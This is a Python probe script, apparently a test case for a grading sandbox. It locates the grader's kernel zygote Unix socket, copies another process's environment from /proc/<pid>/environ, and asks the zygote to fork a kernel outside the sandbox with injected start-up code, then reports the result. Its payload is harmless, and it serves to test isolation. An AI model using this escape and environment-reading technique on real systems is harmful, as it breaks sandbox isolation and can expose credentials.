"""Looks for the grader's kernel zygote (its Unix socket) and asks it for a kernel outside the sandbox, with code of its own."""
# class: privileges
# base: cut_one_merge_too_many
# cell: cut
# control: outside
# uses: report
import glob
import json
import os
import socket

_candidates = set(glob.glob("/tmp/clustercourse-zygote-*/zygote")) | set(glob.glob("/tmp/*/clustercourse-zygote-*/zygote"))
try:
    with open("/proc/net/unix") as _f:        # every Unix socket this network namespace can see
        _candidates |= {_l.split()[-1] for _l in _f.read().splitlines()[1:]
                        if len(_l.split()) > 7 and "zygote" in _l.split()[-1]}
except OSError:
    pass


def _zygote_environment(path):
    """The environment of the process serving ``path`` (what the zygote forks for), else this one's."""
    for _pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{_pid}/cmdline", "rb") as _f:
                if path.encode() not in _f.read().split(b"\0"):
                    continue
            with open(f"/proc/{_pid}/environ", "rb") as _f:
                return dict(_i.decode().split("=", 1) for _i in _f.read().split(b"\0") if b"=" in _i)
        except OSError:
            pass
    return dict(os.environ)


_facts = {"found": sorted(_candidates), "reached": []}
for _path in sorted(_candidates):
    try:
        _conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _conn.settimeout(10)
        _conn.connect(_path)
        # a kernel that runs the attacker's line at start, outside any sandbox
        _request = {"argv": ["--IPKernelApp.exec_lines=['open(\"/dev/null\").close()']"],
                    "env": _zygote_environment(_path), "cwd": "/"}
        socket.send_fds(_conn, [json.dumps(_request).encode() + b"\n"], [0, 1, 2])
        _reply = _conn.recv(4096)
        if b'"pid"' in _reply:
            _facts["reached"].append(_path)    # a process was forked for us; closing the socket ends it
        else:
            _facts.setdefault("refused", []).append(_reply.decode(errors="replace")[:200])
        _conn.close()
    except OSError as _exc:
        _facts.setdefault("errors", []).append(f"{_path}: {type(_exc).__name__}: {_exc}")
_attack_report(**_facts)
